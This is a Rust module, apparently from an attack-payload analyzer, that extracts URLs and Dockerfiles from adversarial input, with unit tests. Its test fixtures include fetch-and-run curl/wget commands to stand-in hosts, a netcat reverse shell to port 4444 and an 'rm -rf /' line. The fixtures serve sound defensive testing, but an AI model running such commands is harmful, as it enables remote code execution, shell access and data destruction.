//! 아티팩트 추출 — 공격자 페이로드에서 URL과 Dockerfile을 끌어냅니다.
//!
//! 순수 함수만 있습니다. 입력은 적대적이므로 어떤 입력에서도 패닉하지
//! 않아야 하며, 매치 없음은 에러가 아니라 정상 결과입니다.

use std::io::Read;
use std::sync::LazyLock;

use flate2::read::GzDecoder;
use regex::Regex;

use crate::error::AnalyzerError;

/// gzip 매직 넘버
const GZIP_MAGIC: [u8; 2] = [0x1f, 0x8b];

/// 추출된 Dockerfile 크기 상한 — 적대적 아카이브의 메모리 폭탄 방지
const MAX_DOCKERFILE_BYTES: u64 = 1024 * 1024;

// 스킴 유무와 무관하게 호스트명/IPv4/IPv6 리터럴을 잡는 결합 패턴.
// 포트와 경로는 선택적이며 단어 경계로 끊습니다.
static URL_PATTERN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?:",
        r"\b(?:[a-zA-Z][a-zA-Z0-9+.-]*://)?",
        r"(?:",
        r"(?:\d{1,3}\.){3}\d{1,3}",
        r"|(?:[a-zA-Z0-9](?:[a-zA-Z0-9-]*[a-zA-Z0-9])?\.)+[a-zA-Z]{2,}",
        r")",
        // 대괄호는 단어 경계를 만들지 못하므로 IPv6 리터럴은 별도 분기입니다.
        r"|(?:[a-zA-Z][a-zA-Z0-9+.-]*://)?\[[0-9a-fA-F:]+\]",
        r")",
        r"(?::\d{1,5})?",
        r"(?:/[^\s\x22'<>;,]*)?",
    ))
    .expect("url pattern is a compile-time constant")
});

/// 텍스트에서 URL 후보를 추출합니다.
///
/// 처음 본 순서를 보존하며 중복을 제거합니다. 어떤 입력에서도
/// 실패하지 않습니다 — 매치가 없으면 빈 벡터를 돌려줍니다.
pub fn extract_urls(text: &str) -> Vec<String> {
    let mut seen = std::collections::HashSet::new();
    let mut urls = Vec::new();
    for m in URL_PATTERN.find_iter(text) {
        let candidate = m.as_str().to_owned();
        if seen.insert(candidate.clone()) {
            urls.push(candidate);
        }
    }
    urls
}

/// 빌드 컨텍스트에서 Dockerfile 텍스트를 추출합니다.
///
/// 앞 두 바이트가 gzip 매직이면 먼저 해제한 뒤 tar로 엽니다.
/// **첫 번째 멤버**를 Dockerfile로 읽습니다 — 빌드 컨텍스트 아카이브가
/// Dockerfile을 정규 첫 항목으로 두는 관례에 기댄 의도적 단순화이며,
/// 전체 컨텍스트 해석기가 아닙니다.
///
/// # Errors
///
/// 페이로드가 유효한 tar 스트림이 아니거나 멤버가 없으면
/// [`AnalyzerError::Archive`]를 반환합니다. 호출자는 이를 치명적으로
/// 다루면 안 됩니다 — 공격자 페이로드는 일부러 깨져 있을 수 있습니다.
pub fn extract_dockerfile(raw: &[u8]) -> Result<String, AnalyzerError> {
    let data: Vec<u8> = if raw.len() >= 2 && raw[..2] == GZIP_MAGIC {
        let mut decoder = GzDecoder::new(raw);
        let mut decompressed = Vec::new();
        decoder
            .read_to_end(&mut decompressed)
            .map_err(|e| AnalyzerError::Archive(format!("gzip decode failed: {e}")))?;
        decompressed
    } else {
        raw.to_vec()
    };

    let mut archive = tar::Archive::new(data.as_slice());
    let mut entries = archive
        .entries()
        .map_err(|e| AnalyzerError::Archive(format!("tar open failed: {e}")))?;

    let first = entries
        .next()
        .ok_or_else(|| AnalyzerError::Archive("archive has no members".to_owned()))?;
    let entry = first.map_err(|e| AnalyzerError::Archive(format!("tar entry failed: {e}")))?;

    let mut text = String::new();
    entry
        .take(MAX_DOCKERFILE_BYTES)
        .read_to_string(&mut text)
        .map_err(|e| AnalyzerError::Archive(format!("member read failed: {e}")))?;
    Ok(text)
}

#[cfg(test)]
mod tests {
    use super::*;
    use flate2::Compression;
    use flate2::write::GzEncoder;
    use std::io::Write;

    fn tar_with_dockerfile(content: &str) -> Vec<u8> {
        let mut builder = tar::Builder::new(Vec::new());
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, "Dockerfile", content.as_bytes())
            .unwrap();
        builder.into_inner().unwrap()
    }

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
        encoder.write_all(data).unwrap();
        encoder.finish().unwrap()
    }

    #[test]
    fn extracts_http_url_with_ip_and_port() {
        let urls = extract_urls("curl http://10.0.0.5:8080/a.sh && sh a.sh");
        assert!(urls.contains(&"http://10.0.0.5:8080/a.sh".to_owned()));
        // 같은 URL이 중복으로 들어가지 않습니다.
        let count = urls
            .iter()
            .filter(|u| *u == "http://10.0.0.5:8080/a.sh")
            .count();
        assert_eq!(count, 1);
    }

    #[test]
    fn extracts_bare_hostname_and_scheme_prefixed() {
        let urls = extract_urls("wget evil.example.com/x; curl https://cdn.evil.example.com/y.bin");
        assert!(urls.contains(&"evil.example.com/x".to_owned()));
        assert!(urls.contains(&"https://cdn.evil.example.com/y.bin".to_owned()));
    }

    #[test]
    fn extracts_ipv6_literal() {
        let urls = extract_urls("nc [2001:db8::1]:4444 -e /bin/sh");
        assert!(urls.iter().any(|u| u.contains("[2001:db8::1]")));
    }

    #[test]
    fn dedups_repeated_urls_preserving_first_seen_order() {
        let urls = extract_urls(
            "wget http://198.51.100.7/a; wget http://198.51.100.8/b; wget http://198.51.100.7/a",
        );
        assert_eq!(
            urls,
            vec![
                "http://198.51.100.7/a".to_owned(),
                "http://198.51.100.8/b".to_owned()
            ]
        );
    }

    #[test]
    fn no_urls_is_empty_not_error() {
        assert!(extract_urls("").is_empty());
        assert!(extract_urls("rm -rf / --no-preserve-root").is_empty());
    }

    #[test]
    fn malformed_input_does_not_panic() {
        let garbage = "\u{0}\u{1}://[[[::::]]]....%%%";
        let _ = extract_urls(garbage);
    }

    #[test]
    fn dockerfile_from_plain_tar() {
        let content = "FROM alpine\nRUN curl http://x.test/y";
        let archive = tar_with_dockerfile(content);
        assert_eq!(extract_dockerfile(&archive).unwrap(), content);
    }

    #[test]
    fn dockerfile_from_gzip_wrapped_tar() {
        let content = "FROM alpine\nRUN curl http://x.test/y";
        let archive = gzip(&tar_with_dockerfile(content));
        assert_eq!(extract_dockerfile(&archive).unwrap(), content);
    }

    #[test]
    fn random_bytes_fail_with_archive_error() {
        let garbage = [0x13, 0x37, 0xde, 0xad, 0xbe, 0xef, 0x01, 0x02, 0x03, 0x04];
        let err = extract_dockerfile(&garbage).unwrap_err();
        assert!(matches!(err, AnalyzerError::Archive(_)));
    }

    #[test]
    fn truncated_gzip_fails_with_archive_error() {
        let mut data = gzip(&tar_with_dockerfile("FROM alpine"));
        data.truncate(10);
        let err = extract_dockerfile(&data).unwrap_err();
        assert!(matches!(err, AnalyzerError::Archive(_)));
    }

    #[test]
    fn empty_archive_fails_with_archive_error() {
        // 빈 tar는 종료 블록만 있는 스트림입니다.
        let builder = tar::Builder::new(Vec::new());
        let empty = builder.into_inner().unwrap();
        let err = extract_dockerfile(&empty).unwrap_err();
        assert!(matches!(err, AnalyzerError::Archive(_)));
    }

    #[test]
    fn empty_input_fails_with_archive_error() {
        let err = extract_dockerfile(&[]).unwrap_err();
        assert!(matches!(err, AnalyzerError::Archive(_)));
    }

    #[test]
    fn first_member_wins_even_with_other_files() {
        let mut builder = tar::Builder::new(Vec::new());
        for (name, content) in [("Dockerfile", "FROM scratch"), ("payload.sh", "#!/bin/sh")] {
            let mut header = tar::Header::new_gnu();
            header.set_size(content.len() as u64);
            header.set_mode(0o644);
            header.set_cksum();
            builder
                .append_data(&mut header, name, content.as_bytes())
                .unwrap();
        }
        let archive = builder.into_inner().unwrap();
        assert_eq!(extract_dockerfile(&archive).unwrap(), "FROM scratch");
    }
}
